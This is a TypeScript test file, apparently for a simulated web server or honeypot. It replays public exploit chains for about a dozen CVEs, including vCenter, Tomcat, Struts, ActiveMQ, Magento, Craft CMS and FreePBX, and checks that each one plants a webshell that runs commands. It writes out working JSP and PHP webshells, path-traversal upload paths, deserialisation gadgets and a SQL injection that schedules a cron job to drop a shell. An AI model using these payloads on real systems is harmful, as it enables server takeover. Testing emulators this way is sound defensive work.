/** The steps of public exploits that bring a page, and then call it. */

import { describe, expect, it } from 'vitest';
import { type HttpVisitor, stranger, webMachine } from '../../../../test/support/http-visitor.ts';
import { tarArchive, zipArchive } from '../../../../test/support/sample-archive.ts';

const id = /uid=\d+\(/;
const shell =
  '<%@ page import="java.io.*" %><% if (request.getParameter("cmd") != null) { Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); } %>';
const machine = webMachine('ubuntu-web', [
  'vcenter',
  'tomcat',
  'struts',
  'sap-netweaver',
  'activemq',
  'zimbra',
  'sysaid',
  'craft-cms',
  'magento',
  'freepbx',
]);

/** The page is there for who brought it and for nobody else. */
function isMine(visitor: HttpVisitor, path: string, headers: Readonly<Record<string, string>> = {}): void {
  expect(visitor.get(path, headers).body).toMatch(id);
  expect(stranger(machine).get(path, headers).body).not.toMatch(id);
}

describe('a page that is uploaded', () => {
  it('takes commands on vCenter (CVE-2021-21972, CVE-2021-22005)', () => {
    const visitor = stranger(machine);
    const place =
      '../../usr/lib/vmware-vsphere-ui/server/work/deployer/s/global/40/0/h5ngc.war/resources/a.jsp';
    const sent = visitor.upload('/ui/vropspluginui/rest/services/uploadova', [
      ['uploadFile', 'a.tar', tarArchive({ [place]: shell })],
    ]);
    expect(sent.cves).toContain('CVE-2021-21972');
    expect(sent.body).toBe('SUCCESS');
    isMine(visitor, '/ui/resources/a.jsp?cmd=id');
    const second = stranger(machine);
    expect(second.send('POST', '/analytics/telemetry/ph/api/hyper/send?_c=a&_i=/b', {}, 'x').status).toBe(
      201,
    );
    const template = JSON.stringify({
      manifestSpec: {},
      contextData: `<c>${shell}</c>`,
      file: '/usr/lib/vmware-sso/vmware-sts/webapps/ROOT/b.jsp',
    });
    second.send(
      'POST',
      '/analytics/ceip/sdk/..;/..;/..;/analytics/ph/api/dataapp/agent?_c=a&_i=b&action=collect',
      {},
      template,
    );
    isMine(second, '/idm/..;/b.jsp?cmd=id');
  });

  it('takes commands on Tomcat (CVE-2017-12615), and a session that is put is run when it is named (CVE-2025-24813)', () => {
    const visitor = stranger(machine);
    expect(visitor.send('PUT', '/a.jsp/', {}, shell).status).toBe(201);
    isMine(visitor, '/a.jsp?cmd=id');
    const object = '\xac\xed\x00\x05sr java.lang.Runtime exec("touch /tmp/deserialised")';
    const put = visitor.send('PUT', '/x1y2.session', { 'Content-Range': 'bytes 0-452/457' }, object);
    expect(put.cves).toContain('CVE-2025-24813');
    expect(put.status).toBe(201);
    expect(visitor.get('/', { Cookie: 'JSESSIONID=.other' }).status).toBe(200);
    const named = visitor.get('/', { Cookie: 'JSESSIONID=.x1y2' });
    expect(named.status).toBe(500);
    expect(named.facts).toContainEqual(
      expect.objectContaining({ kind: 'command', input: 'touch /tmp/deserialised' }),
    );
  });

  it('takes commands on Struts, whatever folder its second name leads to (CVE-2023-50164, CVE-2024-53677)', () => {
    for (const [file, name] of [
      ['Upload', 'uploadFileName'],
      ['upload', 'top.UploadFileName'],
    ] as const) {
      const visitor = stranger(machine);
      const sent = visitor.upload('/upload.action', [
        [file, 'a.txt', shell],
        [name, null, '../../webapps/ROOT/s.jsp'],
      ]);
      expect(sent.cves).toContain('CVE-2024-53677');
      isMine(visitor, '/s.jsp?cmd=id');
    }
  });

  it('takes commands on SAP NetWeaver (CVE-2025-31324)', () => {
    const visitor = stranger(machine);
    const sent = visitor.upload('/developmentserver/metadatauploader?CONTENTTYPE=MODEL&CLIENT=1', [
      ['file', 'h.jsp', shell],
    ]);
    expect(sent.cves).toContain('CVE-2025-31324');
    isMine(visitor, '/irj/h.jsp?cmd=id');
  });

  it('takes commands on ActiveMQ, moved (CVE-2016-3088) or written as a log (CVE-2022-41678)', () => {
    const visitor = stranger(machine);
    const put = visitor.send('PUT', '/fileserver/a.txt', {}, shell);
    expect(put.cves).toContain('CVE-2016-3088');
    expect(put.status).toBe(204);
    const moved = { Destination: 'file:///opt/activemq/webapps/api/a.jsp' };
    expect(visitor.send('MOVE', '/fileserver/a.txt', moved).status).toBe(204);
    isMine(visitor, '/api/a.jsp?cmd=id');
    const second = stranger(machine);
    expect(second.get('/api/jolokia/list').status).toBe(401);
    const admin = { Authorization: 'Basic YWRtaW46YWRtaW4=', Origin: 'http://a.example' };
    expect(second.get('/api/jolokia/list', admin).body).toContain('setConfigText');
    const mbean = 'jdk.management.jfr:type=FlightRecorder';
    const call = (operation: string, ...args: readonly unknown[]) =>
      second.json('/api/jolokia/', { type: 'EXEC', mbean, operation, arguments: args }, admin);
    const made = call('newRecording');
    expect(made.cves).toContain('CVE-2022-41678');
    expect(made.body).toContain('"value":1');
    call('setConfiguration', 1, `<configuration description="${shell}"/>`);
    call('startRecording', 1);
    call('copyTo', 1, '../../webapps/admin/r.jsp');
    isMine(second, '/admin/r.jsp?cmd=id', admin);
  });

  it('takes commands on Zimbra, though the upload was refused (CVE-2022-27925, CVE-2022-37042)', () => {
    const visitor = stranger(machine);
    const archive = zipArchive({ '../../../../mailboxd/webapps/zimbraAdmin/z.jsp': shell });
    const sent = visitor.send(
      'POST',
      '/service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1',
      {},
      archive,
    );
    expect(sent.cves).toContain('CVE-2022-37042');
    expect(sent.status).toBe(401);
    isMine(visitor, '/zimbraAdmin/z.jsp?cmd=id');
  });

  it('takes commands on SysAid (CVE-2023-47246)', () => {
    const visitor = stranger(machine);
    const sent = visitor.send(
      'POST',
      '/userentry?accountId=/../../../tomcat/webapps/u4711/&symbolName=test&base64UserName=YWRtaW4=',
      {},
      zipArchive({ 'a.jsp': shell, 'b.txt': 'CVE_TEST' }),
    );
    expect(sent.cves).toContain('CVE-2023-47246');
    isMine(visitor, '/u4711/a.jsp?cmd=id');
    expect(visitor.get('/u4711/b.txt').body).toBe('CVE_TEST');
  });

  it('takes commands on Magento, once an order has unserialised the session (CVE-2025-54236)', () => {
    const visitor = stranger(machine);
    const page = '<?php system($_GET["cmd"]); ?>';
    const session = `_sessionhandler|O:31:"GuzzleHttp\\Cookie\\FileCookieJar":2:{s:8:"filename";s:9:"pub/m.php";s:4:"data";s:${page.length}:"${page}";}`;
    const sent = visitor.upload('/customer/address_file/upload', [
      ['form_key', null, 'a1b2c3'],
      ['custom_attributes[country_id]', 'sess_a1', session],
    ]);
    expect(sent.cves).toContain('CVE-2025-54236');
    expect(sent.body).toContain('"file":"/s/e/sess_a1"');
    expect(visitor.get('/m.php?cmd=id').body).not.toMatch(id);
    const order = {
      paymentMethod: {
        paymentData: {
          context: { urlBuilder: { session: { sessionConfig: { savePath: 'media/customer_address/s/e' } } } },
        },
      },
    };
    visitor.send(
      'PUT',
      '/rest/default/V1/guest-carts/abc/order',
      { 'Content-Type': 'application/json' },
      JSON.stringify(order),
    );
    isMine(visitor, '/m.php?cmd=id');
  });

  it('takes commands on Craft CMS, drawn by an image script (CVE-2023-41892)', () => {
    const visitor = stranger(machine);
    const drawn =
      '<?xml version="1.0"?><image><read filename="caption:&lt;?php @system(@$_REQUEST[\'cmd\']); ?&gt;"/><write filename="info:/var/www/html/web/cpresources/c.php"/></image>';
    const render = (config: string): readonly (readonly [string, null, string])[] => [
      ['action', null, 'conditions/render'],
      ['configObject', null, 'craft\\elements\\conditions\\ElementCondition'],
      ['config', null, config],
    ];
    const sent = visitor.upload('/index.php', [
      ...render(
        '{"name":"configObject","as ":{"class":"Imagick","__construct()":{"files":"msl:/dev/null"}}}',
      ),
      ['image', 'p.msl', drawn],
    ]);
    expect(sent.cves).toContain('CVE-2023-41892');
    expect(visitor.get('/cpresources/c.php?cmd=id').body).not.toMatch(id);
    expect(
      visitor.upload(
        '/index.php',
        render(
          '{"name":"configObject","as ":{"class":"Imagick","__construct()":{"files":"vid:msl:/tmp/php*"}}}',
        ),
      ).status,
    ).toBe(502);
    isMine(visitor, '/cpresources/c.php?cmd=id');
  });

  it('is written by a job on FreePBX (CVE-2025-57819)', () => {
    const visitor = stranger(machine);
    const page = Buffer.from("<?php echo shell_exec('id'); unlink(__FILE__); ?>").toString('base64');
    const job = `echo "${page}"|base64 -d >/var/www/html/j4711.php`;
    const brand = encodeURIComponent(
      `x' ;INSERT INTO cron_jobs (modulename,jobname,command,class,schedule,max_runtime,enabled,execution_order) VALUES ('sysadmin','a','${job}',NULL,'* * * * *',30,1,1) -- `,
    );
    const ask = (value: string) =>
      visitor.get(
        `/admin/ajax.php?module=FreePBX%5Cmodules%5Cendpoint%5Cajax&command=model&template=x&model=model&brand=${value}`,
      );
    expect(ask(brand).body).toContain('Whoops');
    isMine(visitor, '/j4711.php');
    expect(
      ask(encodeURIComponent("x' AND EXTRACTVALUE(1,CONCAT('~USER:',(SELECT USER()),'~')) -- ")).body,
    ).toMatch(/XPATH syntax error: '~USER:\w+@\w+~'/);
  });
});
